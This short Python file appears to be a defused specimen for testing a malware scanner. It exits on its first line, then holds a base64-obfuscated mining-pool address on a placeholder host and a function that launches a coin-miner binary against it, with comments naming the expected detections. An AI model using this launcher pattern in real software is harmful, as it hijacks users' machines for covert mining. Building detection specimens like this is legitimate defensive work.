raise SystemExit("specimen: not to be run")
import base64
import subprocess

POOL = base64.b64decode("c3RyYXR1bSt0Y3A6Ly9wb29sLmV4YW1wbGUuY29tOjMzMzM=").decode()  # match: coin-miner

def begin(path):
    subprocess.Popen([path, "-o", POOL, "-u", "specimen"])  # match: coin-miner  # match: execution-of-decoded
